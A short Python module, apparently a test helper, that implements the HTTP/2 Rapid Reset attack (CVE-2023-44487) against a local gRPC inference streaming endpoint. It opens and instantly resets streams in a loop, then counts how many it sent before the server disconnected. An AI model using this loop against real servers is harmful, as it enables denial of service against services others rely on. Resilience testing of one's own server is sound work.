"""A client that starts calls and resets them at once (CVE-2023-44487), by HTTP/2's own frames."""

from contextlib import suppress
from socket import create_connection

from h2.config import H2Configuration
from h2.connection import H2Connection

HEADERS = [
    (":method", "POST"),
    (":path", "/llm_inference.v1.InferenceService/GenerateStream"),
    (":scheme", "http"),
    (":authority", "localhost"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def start_and_reset(port: int, count: int, message: bytes) -> int:
    """Sends that many calls with their resets, and returns how many were sent before the server hung up."""
    sent = 0
    with create_connection(("127.0.0.1", port), 10) as plain, suppress(OSError):
        client = H2Connection(H2Configuration(client_side=True))
        client.initiate_connection()
        for _ in range(count):
            stream = client.get_next_available_stream_id()
            client.send_headers(stream, HEADERS)
            if client.local_flow_control_window(stream) > len(message):
                client.send_data(stream, message, end_stream=True)
            client.reset_stream(stream)
            plain.sendall(client.data_to_send())
            sent += 1
    return sent
